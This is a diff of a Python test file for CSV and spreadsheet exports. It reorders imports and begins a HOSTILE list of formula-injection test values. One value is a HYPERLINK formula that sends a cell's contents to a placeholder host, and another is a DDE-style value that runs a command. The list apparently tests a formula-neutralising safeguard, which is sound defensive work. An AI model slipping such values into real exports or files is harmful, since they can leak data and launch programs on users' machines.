@@ -7,10 +7,10 @@ import zipfile
 import openpyxl
 import pytest
 
-from analysis.outputs.csv import units_table_csv
-from analysis.outputs.xlsx import appendix_xlsx, summary_xlsx, units_table_xlsx
 from analysis.figures import compute
+from analysis.outputs.csv import units_table_csv
 from analysis.outputs.safety import neutralize_formula, safe_filename
+from analysis.outputs.xlsx import appendix_xlsx, summary_xlsx, units_table_xlsx
 from tests.support.frames import frame_from
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
